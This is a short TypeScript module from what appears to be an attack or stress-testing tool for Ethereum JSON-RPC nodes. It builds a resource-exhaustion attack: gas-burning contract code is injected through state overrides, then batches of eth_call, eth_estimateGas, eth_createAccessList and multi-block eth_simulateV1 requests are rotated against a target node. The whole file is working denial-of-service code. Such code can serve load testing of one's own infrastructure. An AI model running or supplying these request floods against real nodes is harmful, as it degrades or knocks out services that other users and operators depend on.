import type { Attack } from '../AttackTarget.ts'
import { request } from '../request.ts'
import { rotate } from '../rotate.ts'
import { bombs } from './bombs.ts'

/** Calls that take as long as their gas lets them. */
export const simulationBombs: Attack = (options) => {
  const [from] = options.target.addresses
  const to = `0x${'b0'.repeat(20)}`
  const bodies = Object.values(bombs).flatMap((code) => {
    const overrides = { [to]: { code } }
    const call = { from, to, data: `0x${'11'.repeat(64)}` }
    const calls = Array.from({ length: 20 }, () => call)
    const blockStateCalls = Array.from({ length: 10 }, () => ({ stateOverrides: overrides, calls }))
    return [
      request('eth_call', call, 'latest', overrides),
      request('eth_estimateGas', call, 'latest', overrides),
      request('eth_createAccessList', call, 'latest', overrides),
      request('eth_simulateV1', { blockStateCalls, traceTransfers: true }, 'latest'),
    ]
  })
  return rotate(options, bodies, 6)
}
